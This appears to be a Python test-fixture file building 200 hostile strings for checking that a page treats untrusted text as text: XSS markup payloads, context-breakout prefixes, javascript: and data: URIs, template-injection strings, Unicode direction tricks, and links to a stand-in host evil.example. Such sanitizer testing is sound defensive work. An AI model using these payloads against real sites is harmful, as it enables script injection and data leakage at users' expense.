"""Two hundred texts that would run, load, restyle or mislead, if a page ever took them for more than text."""

from __future__ import annotations

from itertools import product

# What runs, as markup. Each calls pwned(), which the browser of the tests counts.
MARKUP = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/y)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=pwned()></form>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<a href=javascript:pwned()>open</a>",
    "<template><script>pwned()</script></template>",
    "<input type=image src=https://evil.example/pixel onerror=pwned()>",
    "<body onload=pwned()>",
)
# Where it would have to break out of.
BREAKOUTS = ("", '">', "'>", "--></title></textarea></style></script>", "]]>", "`}${", "\u2028", "&lt;b&gt;")
OTHERS = (
    "javascript:pwned()",
    " JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "javascript://example.com/%0apwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example@127.0.0.1/",
    "\u202egnp.exe\u202c",
    "\u2066\u202eabc\u2069",
    "\u200b\u200d\ufeff",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "<%= pwned() %>",
    "#{pwned()}",
    "[[pwned()]]",
    "{% include 'https://evil.example' %}",
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus='",
    '" style="background:url(https://evil.example/z)',
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "expression(pwned())",
    "url(https://evil.example/a)",
    "[click](javascript:pwned())",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example/>",
    "__proto__",
    "constructor",
    "toString",
    "A" * 3000,
    "W\u0337\u0337\u0337\u0337" * 60,
    "\U0001f5fc" * 40,
    "מימין לשמאל <script>pwned()</script>",
    "\ud7ff\ue000",
    "line\nbreaks\n\n\nand\ttabs",
)
HOSTILE = tuple(breakout + markup for breakout, markup in product(BREAKOUTS, MARKUP)) + OTHERS
assert len(HOSTILE) == len(set(HOSTILE)) == 200
